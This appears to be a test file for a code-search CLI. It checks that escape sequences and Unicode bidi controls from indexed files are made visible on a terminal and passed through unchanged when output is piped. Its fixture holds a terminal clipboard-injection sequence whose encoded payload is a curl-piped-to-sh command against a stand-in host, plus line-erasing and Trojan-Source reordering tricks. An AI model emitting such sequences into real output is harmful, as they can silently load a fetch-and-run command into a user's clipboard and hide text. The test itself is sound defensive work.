import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { visibleControls } from '../../src/render/terminal-text.js';
import { CLI, committedRepo, runCli, runJson, tempDir, TEST_CACHE } from '../helpers.js';

/** A docstring that would set the clipboard (OSC 52) and erase the line above; a Trojan-Source reordering. */
const HOSTILE = 'def clipboard_payload():\n    """\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 hidden \x1b[2K\x1b[1A"""\n    return "\u202eevil" # 校验\tdone\n';

test('escape sequences and bidi controls become visible; tabs and Chinese stay', () => {
  assert.equal(visibleControls('a\x1b[2Kb\x07\x9b'), 'a\\x1b[2Kb\\x07\\x9b');
  assert.equal(visibleControls('x\u202ey\u2066z'), 'x<U+202E>y<U+2066>z');
  assert.equal(visibleControls('校验密码\tok'), '校验密码\tok');
});

test('a file\'s escape sequences never reach a terminal raw; piped output keeps its bytes exact', async () => {
  const repo = committedRepo(tempDir('terminal-text'), { 'pay.py': HOSTILE, 'esc\x1b[31mname.py': 'def named():\n    return 2\n' }, 'hostile text');
  // `script` gives the CLI a real pseudo-terminal, as a person's shell does.
  const tty = spawnSync('script', ['-qc', `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI)} search 'clipboard payload' -k 2`, '/dev/null'], { cwd: repo, encoding: 'utf8', env: { ...process.env, OCRAG_CACHE: TEST_CACHE, NO_COLOR: '1' } });
  assert.equal(tty.status, 0, tty.stderr);
  assert.match(tty.stdout, /\\x1b\]52;c;/);
  assert.match(tty.stdout, /<U\+202E>evil/);
  assert.match(tty.stdout, /# 校验\tdone/);
  assert.ok(!tty.stdout.includes('\x1b]52') && !tty.stdout.includes('\x1b[2K') && !tty.stdout.includes('\u202e'), 'no raw sequence from the file');
  const listed = spawnSync('script', ['-qc', `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI)} list`, '/dev/null'], { cwd: repo, encoding: 'utf8', env: { ...process.env, OCRAG_CACHE: TEST_CACHE, NO_COLOR: '1' } });
  assert.match(listed.stdout, /esc\\033\[31mname\.py/);
  assert.ok(!listed.stdout.includes('\x1b[31m'), listed.stdout);

  const piped = await runCli(['search', 'clipboard payload', '-k', '1'], repo);
  assert.ok(piped.stdout.includes('\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07'), 'a pipe gets the file\'s bytes');
  const [hit] = await runJson<{ text: string }[]>(['search', 'clipboard payload', '-k', '1', '--json'], repo);
  assert.equal(hit.text, HOSTILE.trimEnd());
  assert.ok(fs.existsSync(path.join(repo, 'pay.py')));
});
